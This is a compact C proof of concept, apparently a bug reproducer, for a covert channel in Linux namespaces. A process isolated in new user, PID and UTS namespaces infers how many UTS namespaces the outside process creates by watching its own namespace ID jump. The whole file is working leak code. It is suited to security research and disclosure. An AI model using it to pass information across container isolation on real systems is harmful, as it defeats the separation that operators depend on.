/* A covert channel: from inside, how many namespaces are made outside. cc -o repro repro.c && unshare --uts ./repro (root; a second) */
#define _GNU_SOURCE
#include <sched.h>
#include <stdio.h>
#include <stdlib.h>
#include <stdint.h>
#include <unistd.h>
#include <fcntl.h>
#include <signal.h>
#include <sys/ioctl.h>
#include <sys/wait.h>
static uint64_t mine(void){ uint64_t id=0; int u=open("/proc/thread-self/ns/uts",O_RDONLY); if(ioctl(u,_IOR(0xb7,13,uint64_t),&id)) id=0; close(u); return id; }
static int up[2], down[2];
static int inside(void*a){ char c; uint64_t last=0; for(int i=0;i<4;i++){ if(read(down[0],&c,1)!=1) _exit(1); if(unshare(CLONE_NEWUTS)) { perror("unshare"); _exit(1);} uint64_t id=mine(); printf("inside: %lu (+%lu)\n",id,last?id-last:0); fflush(stdout); last=id; if(write(up[1],"x",1)!=1) _exit(1);} return 0; }
int main(){ alarm(10); if(pipe(up)||pipe(down)) return 1; char*st=malloc(65536);
 int pid=clone(inside,st+65536,CLONE_NEWUSER|CLONE_NEWPID|CLONE_NEWUTS|CLONE_NEWIPC|CLONE_NEWNET|SIGCHLD,0); if(pid<0) return perror("clone"),1;
 int makes[]={0,0,3,10}; char c; for(int i=0;i<4;i++){ for(int j=0;j<makes[i];j++) if(unshare(CLONE_NEWUTS)) return 1; printf("outside makes %d\n",makes[i]); fflush(stdout); if(write(down[1],"x",1)!=1||read(up[0],&c,1)!=1) return 1; } waitpid(pid,0,0); return 0; }
